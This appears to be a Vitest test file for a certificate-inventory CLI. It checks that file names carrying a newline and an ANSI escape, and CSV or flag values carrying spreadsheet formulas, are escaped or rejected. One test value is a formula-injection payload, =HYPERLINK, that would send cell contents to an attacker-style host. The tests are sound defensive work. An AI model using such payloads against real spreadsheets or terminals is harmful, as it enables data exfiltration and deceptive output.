import { createHash } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXIT, main } from '../../src/cli/main';
import { createLeaf, createRootCa, toPem, type IssuedCertificate } from '../support/certificate-factory';
import { freePort } from '../support/ports';

let dir: string;
let env: NodeJS.ProcessEnv;
let leaf: IssuedCertificate;
let fingerprint: string;

async function run(...argv: string[]) {
  const out: string[] = [];
  const err: string[] = [];
  const code = await main(argv, { out: (line) => out.push(line), err: (line) => err.push(line), env, cwd: dir });
  return { code, out, err };
}

beforeAll(async () => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'certflow-untrusted-'));
  env = {
    CERTFLOW_DATABASE_URL: `sqlite:${path.join(dir, 'inventory.sqlite')}`,
    USER: 'tester',
    // Nothing listens here: these commands never reach a Temporal server someone else runs.
    TEMPORAL_ADDRESS: `127.0.0.1:${await freePort()}`,
  };
  leaf = createLeaf(createRootCa(), { subject: 'CN=names.example.com, O=Example Corp, C=US' });
  fingerprint = createHash('sha256').update(leaf.der).digest('hex');
});

afterAll(() => {
  fs.rmSync(dir, { recursive: true, force: true });
});

describe('text from files and CSVs in the CLI (issue 14)', () => {
  it('R-INV-4: a broken file whose name holds a newline and an escape stays on one report line; --json keeps it exact', async () => {
    const folder = path.join(dir, 'names');
    fs.mkdirSync(folder);
    const name = 'broken\nRead 1000 certificates \u001b[2J.pem';
    fs.writeFileSync(path.join(folder, name), `${toPem(leaf.der).slice(0, 120)}\n-----END CERTIFICATE-----\n`);
    fs.writeFileSync(path.join(folder, 'good.pem'), leaf.pem);

    const human = await run('import', folder);
    expect(human.code).toBe(EXIT.failure);
    const lines = human.out.flatMap((line) => line.split('\n'));
    const failed = lines.filter((line) => line.includes('broken'));
    expect(failed).toHaveLength(1);
    expect(failed[0]).toContain('broken\\nRead 1000 certificates \\u001b[2J.pem');
    expect(lines.some((line) => line.startsWith('Read 1000'))).toBe(false);
    expect(lines.join('\n')).not.toContain('\u001b');

    const json = await run('import', folder, '--json');
    const report = JSON.parse(json.out.join('\n')) as { certificates: { errors: { source: string }[] } };
    expect(report.certificates.errors.map((error) => path.basename(error.source))).toEqual([name]);
  });

  it.each([
    ['=HYPERLINK("https://evil.example/?"&A1,"alice@example.com")', /starts with "=", which a spreadsheet would run/],
    ['=HYPERLINK("mailto:alice@example.com")', /starts with "="/],
    ['alice@example.com (on call)', /names nobody certflow can reach/],
  ])('R-INV-4, R-OWN-1: --contact and the metadata CSV refuse %j alike, naming the fix', async (contact, why) => {
    const flag = await run(
      'groups',
      'create',
      'web',
      '--name',
      'Web',
      '--approver',
      'bob@example.com',
      '--contact',
      contact,
    );
    expect(flag.code).toBe(EXIT.usage);
    expect(flag.err.join('\n')).toMatch(why);
    expect(flag.err.join('\n')).toMatch(/^certflow: --contact: .*write an e-mail address/);

    await run('import', path.join(dir, 'names', 'good.pem'));
    const csv = path.join(dir, 'owners.csv');
    fs.writeFileSync(
      csv,
      [
        'fingerprint,contacts,tags',
        `${fingerprint},"${contact.replace(/"/g, '""')}",bad-row`,
        `${fingerprint},carol@example.com,good-row`,
      ].join('\n'),
    );
    const imported = await run('import', '--metadata', csv);
    expect(imported.code).toBe(EXIT.failure);
    const report = imported.out.join('\n');
    expect(report).toMatch(new RegExp(`owners\\.csv line 2: contacts: .*${why.source}.*correct the cell`));
    expect(report).toMatch(/1 certificate updated/);
    const shown = await run('show', fingerprint, '--json');
    const { metadata } = JSON.parse(shown.out.join('\n')) as { metadata: { contacts: string[]; tags: string[] } };
    expect(metadata.contacts).toEqual(['carol@example.com']);
    expect(metadata.tags).not.toContain('bad-row');
  });
});
